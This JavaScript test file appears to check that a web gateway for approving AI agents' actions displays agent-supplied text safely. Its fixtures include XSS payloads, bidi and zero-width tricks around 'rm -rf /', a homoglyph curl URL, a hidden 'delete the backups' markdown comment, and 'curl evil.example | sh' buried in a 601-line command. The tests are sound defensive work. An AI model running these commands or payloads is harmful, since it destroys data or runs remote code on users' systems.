// What an agent writes is shown as the text it is. Nothing of it runs, loads or hides.

import { card, check, heading, linesInSight, received, run, until } from "./harness.mjs";

const HTML = `<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=1</script><a href="javascript:globalThis.pwned=1">x</a>`;
const MARKDOWN = "**bold** [click](javascript:globalThis.pwned=1) ![p](https://evil.example/p.png)";
const ANSI = "\u001b[2K\u001b[1Ahidden";
const BIDI = "safe\u202etxt.exe\u202c\u2066x\u2069";
const UNSEEN = "rm\u200b -rf\u00a0/\ufeff";
const EVERYTHING = [HTML, MARKDOWN, ANSI, BIDI, UNSEEN].join(" ");
const SHOWN = ["<img src=x onerror=", "<script>", "⟨U+001B⟩[2K", "⟨U+202E⟩", "⟨U+2066⟩", "⟨U+200B⟩", "⟨U+FEFF⟩"];
/** None of these may reach the page as they are. */
const RAW = String.raw`[\u001b\u202e\u2066\u200b\ufeff]`;
const MEGABYTE = 1_000_000;

await run(async ({ gateway, open }) => {
  const page = await open();
  const foreign = [];
  page.on("request", (request) => request.url().startsWith(gateway.url) || foreign.push(request.url()));
  page.on("dialog", (dialog) => dialog.dismiss());
  const blocked = [];
  page.on("console", (message) => message.text().includes("Content Security Policy") && blocked.push(message.text()));

  heading("the page's policy:");
  const index = await fetch(`${gateway.url}/`);
  const policy = index.headers.get("content-security-policy") ?? "";
  check(
    "scripts come from here only, and none is inline",
    /script-src 'self'(;|$)/.test(policy) && !policy.includes("unsafe"),
    policy,
  );
  const html = await index.text();
  check("the page itself has no inline script", !/<script(?![^>]*\bsrc=)[^>]*>/.test(html));

  const nothingRan = async (where) => {
    const found = await page.evaluate(
      (unseen) => ({
        pwned: globalThis.pwned,
        pictures: [...document.images].map((one) => one.getAttribute("src")).filter((src) => src !== "/icon.svg"),
        // The page's own: its bundle, and the theme before the first paint.
        scripts: [...document.scripts].filter(
          (one) => !one.src.startsWith(`${location.origin}/assets/`) && one.src !== `${location.origin}/theme.js`,
        ).length,
        links: [...document.links].map((one) => one.href).filter((href) => !/^https?:/.test(href)),
        raw: new RegExp(unseen, "u").test(document.body.textContent),
      }),
      RAW,
    );
    const isClean =
      found.pwned === undefined &&
      !found.raw &&
      [found.pictures, found.links].every((list) => list.length === 0) &&
      found.scripts === 0;
    check(`${where}: nothing ran, loaded or hid`, isClean, found);
  };
  const shows = async (where, place) => {
    const text = (await place.textContent()) ?? "";
    const missing = SHOWN.filter((part) => !text.includes(part));
    check(`${where}: shown as text`, missing.length === 0, missing);
  };

  /** Any program asks. */
  const ask = async (key, body) => {
    const asked = await gateway.call("POST", "/v1/interactions", { key, toolName: "deploy", ...body });
    await page.goto(`${gateway.url}/sessions/${asked.sessionId}?ask=${asked.request.interactionId}`);
    return card(page);
  };

  heading("in a question:");
  const question = await ask("q", {
    kind: "question",
    agentSays: EVERYTHING,
    questions: [
      {
        id: "a",
        header: "A",
        question: EVERYTHING,
        options: [{ label: EVERYTHING, description: EVERYTHING, preview: EVERYTHING }, { label: "no" }],
      },
      { id: "b", header: "\u202eB", question: "And this?", options: [{ label: "yes" }, { label: "no" }] },
    ],
  });
  await shows("question, label, description, preview", question);
  await nothingRan("question");

  heading("in an approval:");
  const approval = await ask("a", {
    kind: "approval",
    toolName: `Bash ${EVERYTHING}`,
    input: { command: EVERYTHING, [EVERYTHING]: EVERYTHING },
    preview: EVERYTHING,
    agentSays: EVERYTHING,
  });
  await shows("tool name, input, keys, preview", approval);
  await nothingRan("approval");
  check(
    "the approval's card can be read to its end",
    await page
      .getByRole("button", { name: /Approve/ })
      .first()
      .isEnabled(),
  );

  heading("what Markdown would hide:");
  const HIDDEN = "[//]: # (and delete the backups)";
  const plan = await ask("p", {
    kind: "approval",
    toolName: "mcp__x__run",
    input: { plan: `**Tidy up**\n\n${HIDDEN}` },
  });
  check("a field named plan is no plan: it is shown as it is", (await plan.textContent())?.includes(`**Tidy up**`));
  check("and nothing of it is hidden", (await plan.textContent())?.includes(HIDDEN));
  const author = await gateway.session("author");
  await gateway.say(author, `say ${HIDDEN}\napprove Bash {"command":"ls"}`);
  await page.goto(`${gateway.url}/sessions/${author}`);
  await card(page);
  check("nor in what an agent says", (await page.getByLabel("Transcript").textContent())?.includes(HIDDEN));

  heading("in a form:");
  const form = await ask("f", {
    kind: "form",
    form: {
      title: EVERYTHING,
      fields: [
        { id: "a", label: EVERYTHING, description: EVERYTHING, type: "text" },
        { id: "b", label: "B", type: "select", options: [{ value: "x", label: EVERYTHING }] },
      ],
    },
  });
  await shows("title, label, description", form);
  await nothingRan("form");

  heading("in a transcript:");
  const session = await gateway.session(EVERYTHING);
  // A step is one line.
  const flat = EVERYTHING.replaceAll("\n", " ");
  await gateway.say(
    session,
    `say ${flat}\nthink ${flat}\ntool Weird {"x":${JSON.stringify(flat)}} => ${flat}\nask Store: ${flat.replaceAll("|", "/").replaceAll(":", ";")} | yes | no`,
  );
  await page.goto(`${gateway.url}/sessions/${session}`);
  await card(page);
  await page.getByText("Waiting here").waitFor();
  await shows("the agent's words", page.getByLabel("Transcript"));
  await nothingRan("transcript");
  await page.goto(`${gateway.url}/`);
  await page.locator("[data-ask]").first().waitFor();
  await nothingRan("inbox");

  heading("a megabyte:");
  const begin = Date.now();
  const long = await ask("long", { kind: "approval", input: { command: `echo ${"x".repeat(MEGABYTE - 20)} END` } });
  const took = Date.now() - begin;
  check(
    "its end is in sight before anything is opened",
    await long.getByText(" END", { exact: false }).last().isVisible(),
  );
  await long.press(" ");
  const length = await long.evaluate((element) => element.textContent.length);
  check("it is there whole", length >= MEGABYTE - 20 && (await long.textContent())?.includes(" END"), String(length));
  await page.getByRole("button", { name: "Deny…" }).click();
  check("the card still works", await page.getByLabel("What should it do instead?").isVisible());
  const lines = await ask("lines", {
    kind: "approval",
    input: { command: Array.from({ length: 40_000 }, (_, at) => `echo line ${at}`).join("\n") },
  });
  check(
    "of many lines the first and the last are in sight",
    (await lines.getByText("echo line 39999").last().isVisible()) &&
      (await lines.getByText("echo line 0", { exact: false }).first().isVisible()),
  );
  const many = await ask("many", {
    kind: "question",
    questions: [
      {
        id: "a",
        header: "A",
        question: "q".repeat(150_000),
        options: [{ label: "l".repeat(50_000) }, { label: "no" }],
      },
    ],
  });
  // A card of this length takes a moment to show what was chosen.
  const no = many.getByRole("radio", { name: "no" });
  await no.click();
  await until("the choice", () => no.isChecked());
  check(
    "a question as long as one may be can be answered",
    await page.getByRole("button", { name: "Send answer" }).isEnabled(),
  );

  heading("what looks like nothing, or like something else:");
  const blank = await ask("blank", {
    kind: "approval",
    input: { command: "rm\u2800-rf\u2800/srv Z\u0301\u0302\u0303\u0304" },
  });
  const blankText = (await blank.textContent()) ?? "";
  check("a blank that is no space is shown", blankText.includes("rm⟨U+2800⟩-rf⟨U+2800⟩/srv"), blankText);
  check("so is what stacks on one letter", blankText.includes("⟨U+0303⟩⟨U+0304⟩"), blankText);
  const NOTICE = "One word has letters of two alphabets";
  const mixed = await ask("mixed", { kind: "approval", input: { command: "curl https://p\u0430ypal.com/x" } });
  check(
    "a word of two alphabets is told",
    (await mixed.textContent())?.includes(`${NOTICE}, which may look alike: p⟨U+0430⟩ypal`),
  );
  const path = await ask("path", { kind: "approval", input: { file_path: "/etc/p\u0430sswd" } });
  check("also in a path", (await path.textContent())?.includes("p⟨U+0430⟩sswd"));
  const russian = await ask("russian", { kind: "approval", input: { command: "cat документы/отчёт.txt αβγ/δ.log" } });
  check("words of one alphabet each are told nothing of", !(await russian.textContent())?.includes(NOTICE));

  heading("a command of 601 lines:");
  const script = Array.from({ length: 601 }, (_, at) => (at === 300 ? "curl evil.example | sh" : `echo line ${at}`));
  await ask("script", { kind: "approval", input: { command: script.join("\n") } });
  const scriptId = new URL(page.url()).searchParams.get("ask");
  const isOpen = async () => (await gateway.call("GET", `/v1/interactions/${scriptId}`)).state === "open";
  const shown = new Set();
  let presses = 0;
  while ((await isOpen()) && presses < 100) {
    await card(page);
    for (const line of await linesInSight(page)) shown.add(line);
    await page
      .getByRole("button", { name: /^Approve/ })
      .first()
      .click();
    await page.waitForTimeout(100);
    presses += 1;
  }
  const unseen = script.filter((line) => !shown.has(line)).length;
  check("it was approved when each line had been on the screen", presses < 100 && unseen === 0, { presses, unseen });

  heading("numbers that browsers round:");
  const agent = await gateway.session("numbers");
  await gateway.say(agent, 'approve Pay {"account":9007199254740993,"note":"x"}');
  await page.goto(`${gateway.url}/sessions/${agent}`);
  const pay = await card(page);
  check("all digits are shown", (await pay.textContent())?.includes("9007199254740993"));
  await page.getByRole("button", { name: "Edit", exact: true }).click();
  const box = page.getByLabel("Change the input");
  await box.fill((await box.inputValue()).replace('"x"', '"y"'));
  await card(page);
  await page.getByRole("button", { name: "Approve edited input" }).click();
  await until("the approval", async () => (await received(gateway, agent)).length === 1);
  const raw = await (
    await fetch(`${gateway.url}/v1/sessions/${agent}/events?limit=2000`, {
      headers: { Authorization: `Bearer ${gateway.token}`, Accept: "application/json" },
    })
  ).text();
  const told = raw.slice(raw.indexOf('"interaction_response"'));
  check(
    "and an edit beside them sends them unchanged",
    told.includes('"account":9007199254740993') && told.includes('"note":"y"'),
  );

  check("no request left for another place", foreign.length === 0, foreign);
  check("the policy had nothing to block", blocked.length === 0, blocked.slice(0, 3));
  return `A megabyte of input was on the screen after ${took} ms.`;
});
